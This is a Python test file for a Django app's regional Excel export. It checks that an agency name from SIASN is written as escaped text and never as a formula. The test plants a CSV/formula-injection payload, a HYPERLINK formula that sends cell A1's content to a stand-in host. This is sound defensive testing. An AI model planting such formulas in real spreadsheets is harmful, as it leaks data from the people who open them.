"""The regional export writes every text as text: an instansi's name (from SIASN) is never a formula."""

from __future__ import annotations

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from talenta.people.models import Region
from tests.people.factories import InstansiFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


def test_an_instansi_named_like_a_formula_is_exported_as_text(make_user):
    region = Region.objects.create(code="36", name="Provinsi Banten")
    InstansiFactory(region=region, name=EVIL)
    home = InstansiFactory(region=region)
    client = Client()
    client.force_login(make_user("regional", username="pengawas", instansi=home))
    response = client.get(reverse("region:export"))
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    names = [(c.value, c.data_type) for c in ws["A"][1:]]
    assert ("'" + EVIL, "s") in names
    assert all(t != "f" for _, t in names)
